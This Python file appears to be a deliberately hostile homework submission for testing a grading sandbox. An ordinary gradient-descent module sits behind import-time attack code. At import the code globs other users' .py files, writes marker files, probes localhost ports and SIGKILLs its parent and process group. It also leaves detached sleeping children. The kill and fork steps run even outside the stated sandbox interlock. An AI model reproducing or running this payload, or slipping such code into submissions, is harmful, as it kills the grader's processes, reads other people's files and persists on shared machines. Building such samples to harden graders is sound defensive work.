# Hostile gd.py: at import it reads the files of the TA and of the other students it can guess
# (glob over /work, /tmp, $HOME, /root), writes PWNED_BY_SUBMISSION.txt into /tmp, $HOME and the
# folders above its working directory, connects to 127.0.0.1 ports (those /proc/net/tcp lists),
# SIGKILLs its parent and its process group, and leaves 5 setsid() children sleeping as
# "sleep 3600.4243". Its gradient_descent is an ordinary, correct one.
# Safety interlock (a real attacker would not have it): the writes and the connections happen only
# inside the bubblewrap sandbox (its working directory is under /sandbox), so that checking the
# class without the sandbox does not litter or poke this machine.
import glob
import itertools
import os
import signal
import socket
import time

STOLEN = [p for root in ("/work", "/tmp", os.path.expanduser("~"), "/root")
          for p in itertools.islice(glob.iglob(os.path.join(root, "**", "*.py"), recursive=True), 5000)]
here = os.path.abspath(os.getcwd())
ARMED = here.startswith("/sandbox/")
targets = ["/tmp", os.path.expanduser("~"), os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
for folder in targets if ARMED else []:
    try:
        fd = os.open(os.path.join(folder, "PWNED_BY_SUBMISSION.txt"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        os.close(fd)
    except OSError:
        pass
try:
    for line in open("/proc/net/tcp").read().splitlines()[1:] if ARMED else []:
        local, state = line.split()[1], line.split()[3]
        if state == "0A" and local.startswith("0100007F:"):
            try:
                socket.create_connection(("127.0.0.1", int(local.split(":")[1], 16)), timeout=0.5).sendall(b"hi\n")
            except OSError:
                pass
except OSError:
    pass
for target in (os.getppid(), -os.getpgrp()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
for _ in range(5):
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    os.execv("/bin/sleep", ["sleep", "3600.4243"])
                except OSError:
                    time.sleep(3600)
        finally:
            os._exit(0)

# ---- below: an ordinary gd.py ----
import numpy as np
import torch
import torch.nn.functional as F

MEAN = torch.tensor([0.485, 0.456, 0.406]).view(1, 3, 1, 1)
STD = torch.tensor([0.229, 0.224, 0.225]).view(1, 3, 1, 1)


def normalize_and_jitter(img, step=32):
    dx, dy = np.random.randint(-step, step - 1, 2)
    return (img.roll(int(dx), -1).roll(int(dy), -2) - MEAN) / STD


def blur(img, sigma=1.0):
    r = 3
    x = torch.arange(-r, r + 1, dtype=img.dtype)
    k = torch.exp(-x ** 2 / (2 * sigma ** 2))
    k = k / k.sum()
    c = img.shape[1]
    img = F.conv2d(F.pad(img, (r, r, 0, 0), mode="reflect"), k.view(1, 1, 1, -1).repeat(c, 1, 1, 1), groups=c)
    return F.conv2d(F.pad(img, (0, 0, r, r), mode="reflect"), k.view(1, 1, -1, 1).repeat(c, 1, 1, 1), groups=c)


def gradient_descent(input, model, loss, iterations=128):
    model.eval()
    img = input.detach().clone()
    lr = 0.05
    for i in range(iterations):
        img.requires_grad_(True)
        value = loss(model(normalize_and_jitter(img)))
        grad, = torch.autograd.grad(value, img)
        with torch.no_grad():
            img = img + lr * grad / (grad.abs().mean() + 1e-8)
            if i % 4 == 0:
                img = blur(img)
            img = img.clamp(0, 1)
    model.train()
    return img.detach()
